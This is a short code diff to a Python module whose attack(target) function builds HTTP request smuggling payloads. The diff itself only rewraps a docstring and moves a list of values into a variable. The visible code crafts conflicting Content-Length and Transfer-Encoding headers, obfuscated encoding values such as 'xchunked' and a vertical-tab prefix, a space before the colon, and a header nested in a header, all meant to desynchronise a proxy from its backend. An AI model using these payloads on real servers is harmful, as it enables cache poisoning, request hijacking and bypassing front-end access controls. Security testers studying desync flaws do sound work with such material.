@@ -1,6 +1,6 @@
 """
-Hides a request for another name in one for the listed host, where proxy and host may differ in where
-a request ends.
+Hides a request for another name in one for the listed host, where proxy and host may differ in
+where a request ends.
 """
 
 from functools import partial
@@ -22,6 +22,7 @@ def attack(target):
         return text.replace("\r\n", line_end) + body
 
     coding = "Transfer-Encoding"
+    values = ("identity", "xchunked", "chunked, identity", "gzip, chunked", "\x0bchunked")
     requests = {
         "a length beside chunks": request(f"{length}{coding}: chunked\r\n", chunked),
         "chunks beside a length": request(f"{coding}: chunked\r\n{length}", chunked),
@@ -29,7 +30,7 @@ def attack(target):
         "chunks in HTTP/2.0": request(f"{length}{coding}: chunked\r\n", chunked, "2.0"),
         **{
             f"{coding} {value!r}": request(f"{length}{coding}: {value}\r\n", chunked)
-            for value in ("identity", "xchunked", "chunked, identity", "gzip, chunked", "\x0bchunked")
+            for value in values
         },
         "a space before the colon": request(f"{length}{coding} : chunked\r\n", chunked),
         "a header in a header": request(f"{length}X: y\n{coding}: chunked\r\n", chunked),
